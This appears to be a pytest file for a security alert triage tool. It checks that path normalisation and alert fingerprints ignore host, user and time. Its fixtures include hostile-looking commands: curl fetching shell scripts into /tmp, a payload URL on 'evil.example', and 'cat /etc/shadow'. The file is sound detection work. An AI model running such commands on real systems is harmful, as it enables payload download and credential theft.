"""Tokens and fingerprints tell what was done, not on which host, by whom, or when."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.triage.conftest import make_alert, make_process
from watchdogd.triage.features import MAX_TOKENS, fingerprint, name_program, normalise_path, normalise_word, tokens_of


@pytest.mark.parametrize(
    ("path", "normal"),
    [
        ("/home/alice/.ssh/id_rsa", "~/.ssh/id_rsa"),
        ("/root/.ssh/id_rsa", "~/.ssh/id_rsa"),
        ("/home/alice/work/x.py", "~/*.py"),
        ("/tmp/tmp.Xa81kdP0", "/tmp/*"),
        ("/var/tmp/.x/run.sh", "/tmp/.*.sh"),
        ("/dev/shm/a", "/tmp/*"),
        ("/proc/4711/mem", "/proc/N/mem"),
        ("/proc/self/mem", "/proc/N/mem"),
        ("/bin/sh", "/usr/bin/sh"),
        ("/usr/bin/python3.11", "/usr/bin/pythonN.N"),
        ("/etc/cron.d/job", "/etc/cron.d/job"),
        ("/srv/shop/uploads/a.php", "/srv/*.php"),
        ("/", "/"),
    ],
)
def test_paths_are_those_of_any_host(path: str, normal: str) -> None:
    assert normalise_path(path) == normal


def test_words_lose_addresses_and_hosts() -> None:
    assert normalise_word("10.0.0.7:4444") == "address"
    assert normalise_word("https://evil.example:8443/x/payload.sh?a=1") in {"https://*", "https://*.sh"}
    assert normalise_word("~/.bashrc") == "~/.bashrc"


def test_programs_lose_versions() -> None:
    assert name_program("/usr/bin/python3.11") == "python"
    assert name_program("/usr/sbin/php-fpm8.2 (deleted)") == "php-fpm"
    assert name_program(None) == ""


def test_the_same_deed_elsewhere_has_the_same_tokens() -> None:
    here = make_alert("curl", "-s", "http://10.0.0.1:8000/a.sh", "-o", "/tmp/a1")
    argv = ("curl", "-s", "http://192.168.7.9/b.sh", "-o", "/tmp/zz")
    there = make_alert(*argv)
    moved = msgspec.structs.replace(
        there,
        matched={"CommandLine": "curl -s http://192.168.7.9/b.sh -o /tmp/zz"},
        process=make_process("/usr/bin/curl", *argv, pid=99, user="eve", login="eve", session="77"),
        time_ms=5,
        host="db02",
    )
    assert tokens_of(here) == tokens_of(moved)
    assert fingerprint(here) == fingerprint(moved)


def test_another_deed_has_another_fingerprint() -> None:
    assert fingerprint(make_alert("cat", "/etc/shadow")) != fingerprint(make_alert("cat", "/etc/passwd"))
    assert fingerprint(make_alert("cat", "/etc/shadow")) != fingerprint(make_alert("tac", "/etc/shadow"))


def test_account_names_are_no_tokens() -> None:
    process = make_process("/usr/bin/su", "su", "-", "alice", user="alice")
    assert "arg:alice" not in tokens_of(make_alert(process=process))


@given(st.lists(st.text(max_size=400), max_size=80), st.text(max_size=100))
def test_any_text_gives_bounded_tokens(argv: list[str], exe: str) -> None:
    alert = make_alert(process=make_process(exe or "/x", *argv), matched={"CommandLine": " ".join(argv)})
    assert len(tokens_of(alert)) <= MAX_TOKENS
    assert all(len(token) < 400 for token in tokens_of(alert))
    assert len(fingerprint(alert)) == 64
